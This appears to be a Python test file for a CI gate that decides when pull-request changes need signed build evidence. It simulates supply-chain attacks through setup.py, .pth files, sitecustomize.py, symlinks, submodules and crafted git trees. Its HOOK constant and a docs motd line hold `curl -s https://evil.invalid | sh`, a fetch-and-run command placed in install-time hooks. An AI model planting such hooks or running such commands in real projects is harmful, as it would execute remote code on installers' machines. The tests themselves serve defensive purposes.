"""Deny by default: every file of the PR head is an image input but a short list of paths no build
installs or runs (docs/, tests/, evidence/, README.md), and that list is the base's code.

Each attack is a PR on a real repository (tests/unit/gate_repos.py) branched from the base, with
no evidence, judged the way gate.yml runs the gate. An allowlist of what matters (the old
``BUILDER_CODE``) let each of these pass as "no image input changed".
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.helpers import image
from tests.unit.gate_repos import GateRepo, approved, run_gate
from tests.unit.gitrepos import commit_all, git, needs_git
from twinbuild.evidence.head import commit_inputs

pytestmark = needs_git


def _append(rel: str, text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a", encoding="utf-8") as handle:
            handle.write(text)

    return change


def _chmod_x(rel: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / rel).chmod(0o755)

    return change


def _move(src: str, dst: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / dst).parent.mkdir(parents=True, exist_ok=True)
        git(root, "mv", src, dst)

    return change


LOOSEN = "\nMAX_BYTES = 1 << 40  # every manifest read goes through here\n"
HOOK = "import os; os.system('curl -s https://evil.invalid | sh')\n"
CHANGES: dict[str, Callable[[Path], None]] = {
    # a helper every manifest read goes through, outside the old builder list
    "an installed helper": _append("twinbuild/util/bounded.py", LOOSEN),
    "the package's __init__.py": _append("twinbuild/__init__.py", "\n__all__ = []\n"),
    "a new setup.py (setuptools runs it on pip install .)": _append(
        "setup.py", "from setuptools import setup\n" + HOOK + "setup()\n"
    ),
    "a new .pth file at the top": _append("twinbuild-hook.pth", HOOK),
    "a new .pth file in the package": _append("twinbuild/_hook.pth", HOOK),
    "a new top-level module": _append("sitecustomize.py", HOOK),
    "a workflow (the validation build runs it)": _append(
        ".github/workflows/validate.yml", "# build differently\n"
    ),
    "the executable bit of a module": _chmod_x("twinbuild/cli/main.py"),
    "a module moved into docs/": _move("twinbuild/util/append.py", "docs/append.py"),
    "the gitignore (what a checkout leaves out)": _append(".gitignore", "twinbuild/util/\n"),
}


@pytest.mark.parametrize("what", CHANGES)
def test_a_change_to_any_installed_or_run_file_needs_evidence(
    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    CHANGES[what](attack_repo.root)
    head = commit_all(attack_repo.root, what)
    assert commit_inputs(head).inputs != commit_inputs(attack_repo.base).inputs
    # A code owner approved the head: what is left is the image input the change made.
    code, out, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
    assert [line.split(";")[0] for line in err] == [
        "twinbuild: cuda-amd64: missing: no signed evidence of cuda (linux/amd64)",
        "twinbuild: rocm-amd64: missing: no signed evidence of rocm (linux/amd64)",
    ]
    assert code == 7
    assert not any("no image input changed" in line for line in out)


def test_docs_tests_tools_and_the_readme_pass_with_no_evidence_and_no_approval(
    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    _append("docs/building.md", "# building\n\nmore words\n")(attack_repo.root)
    _append("tests/unit/test_more.py", "def test_more() -> None: ...\n")(attack_repo.root)
    _append("README.md", "\nmore words\n")(attack_repo.root)
    _append("tools/bench/rows.py", "ROWS = ()\n")(attack_repo.root)
    _append("evidence/README.md", "where the evidence lives\n")(attack_repo.root)
    (attack_repo.root / "docs/readme-link.md").symlink_to("../README.md")  # a link no build follows
    head = commit_all(attack_repo.root, "docs and tests")
    code, out, err = run_gate(capsys, head, "--base", attack_repo.base)
    found = commit_inputs(head)
    assert (code, err) == (0, [])
    assert out == [
        f"no image input changed between the base {attack_repo.base[:12]} and the head {head[:12]} "
        f"(cuda-amd64 {found.inputs[image('cuda')][:19]}, rocm-amd64 "
        f"{found.inputs[image('rocm')][:19]}); no GPU evidence needed"
    ]


def test_a_docs_file_the_recipe_copies_is_an_input(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    git(gate_repo.root, "checkout", "-q", "main")
    _append("docs/motd.txt", "welcome\n")(gate_repo.root)
    _append("images/cuda/Dockerfile", "COPY docs/motd.txt /etc/motd\n")(gate_repo.root)
    base = commit_all(gate_repo.root, "the image shows the docs' motd")
    _append("docs/motd.txt", "curl -s https://evil.invalid | sh\n")(gate_repo.root)
    head = commit_all(gate_repo.root, "docs: a new motd")
    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
    code, _, err = run_gate(capsys, head, "--base", base)
    assert code == 7
    assert [line.split(";")[0] for line in err] == [
        "twinbuild: cuda-amd64: missing: no signed evidence of cuda (linux/amd64)",
        "twinbuild: rocm-amd64: missing: no signed evidence of rocm (linux/amd64)",
    ]
    assert commit_inputs(head).inputs[image("rocm")] == commit_inputs(base).inputs[image("rocm")]


def test_a_symlink_outside_the_not_inputs_is_refused(
    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    _append("docs/evil.py", HOOK)(attack_repo.root)
    # pip would follow the link into docs/, whose edits move no hash: refuse the link itself.
    (attack_repo.root / "twinbuild/evil.py").symlink_to("../docs/evil.py")
    head = commit_all(attack_repo.root, "a module that lives in docs/")
    code, out, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
    assert (code, out) == (2, [])
    assert err == [
        f"twinbuild: {head}:twinbuild/evil.py: a symlink (mode 120000) among the image inputs "
        "(every file but docs/, tests/, tools/, evidence/, README.md and CODEOWNERS); commit the file itself, the "
        "gate hashes only what the commit holds"
    ]


def test_a_submodule_outside_the_not_inputs_is_refused(
    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    sub = attack_repo.root / "vendor"
    sub.mkdir()
    git(sub, "init", "-q", "-b", "main")
    (sub / "hook.py").write_text(HOOK)
    commit_all(sub, "vendored")
    head = commit_all(attack_repo.root, "a submodule")
    code, _, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
    assert code == 2
    assert err == [
        f"twinbuild: {head}:vendor: a gitlink, i.e. a submodule (mode 160000) among the image "
        "inputs (every file but docs/, tests/, tools/, evidence/, README.md and CODEOWNERS); commit the file itself, "
        "the gate hashes only what the commit holds"
    ]


def test_a_path_no_checkout_would_write_is_refused(
    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    # tests/../hook.py: under tests/ by its first name, at the top of the tree by git's reading.
    hook = _git_in(attack_repo.root, ["hash-object", "-w", "--stdin"], HOOK)
    inner = _git_in(attack_repo.root, ["mktree"], f"100644 blob {hook}\thook.py\n")
    dotdot = _git_in(attack_repo.root, ["mktree"], f"040000 tree {inner}\t..\n")
    listing = git(attack_repo.root, "ls-tree", attack_repo.base).splitlines()
    tree = _git_in(
        attack_repo.root, ["mktree"], "\n".join([*listing, f"040000 tree {dotdot}\ttests"]) + "\n"
    )
    head = git(attack_repo.root, "commit-tree", tree, "-p", attack_repo.base, "-m", "tests/..")
    code, _, err = run_gate(capsys, head, "--base", attack_repo.base)
    assert code == 2
    assert err == [
        f"twinbuild: {head}:tests/../hook.py: a path git would not check out ('..' as a name); "
        "no commit of a repository holds one, rewrite the history without it"
    ]


def _git_in(root: Path, args: list[str], stdin: str) -> str:
    proc = subprocess.run(
        ["git", "-C", str(root), *args], input=stdin, capture_output=True, text=True, check=True
    )
    return proc.stdout.strip()
